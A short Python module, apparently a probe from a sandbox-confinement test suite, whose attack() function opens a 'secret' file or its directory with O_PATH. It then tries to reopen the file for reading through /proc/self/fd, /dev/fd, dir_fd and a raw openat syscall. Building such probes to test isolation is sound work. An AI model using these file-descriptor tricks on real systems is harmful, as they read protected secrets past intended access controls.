"""Opens with O_PATH, which asks for no right, and opens again through /proc/self/fd and as an empty path."""

import os


def attack():
    path = TARGETS["readable_secret"]
    for target in (path, os.path.dirname(path)):
        try:
            handle = os.open(target, os.O_PATH)
        except OSError:
            continue
        name = os.path.basename(path) if target != path else ""
        ways = (
            lambda: os.open(f"/proc/self/fd/{handle}" + ("/" + name if name else ""), os.O_RDONLY),
            lambda: os.open(f"/dev/fd/{handle}" + ("/" + name if name else ""), os.O_RDONLY),
            lambda: os.open(name, os.O_RDONLY, dir_fd=handle),
            lambda: c(257, handle, name.encode(), os.O_RDONLY | 0x1000, 0),
        )
        for number, way in enumerate(ways):
            try:
                descriptor = way()
            except OSError:
                continue
            data = os.read(descriptor, 100)
            os.close(descriptor)
            if data:
                return f"way {number} read {len(data)} bytes"
        os.close(handle)
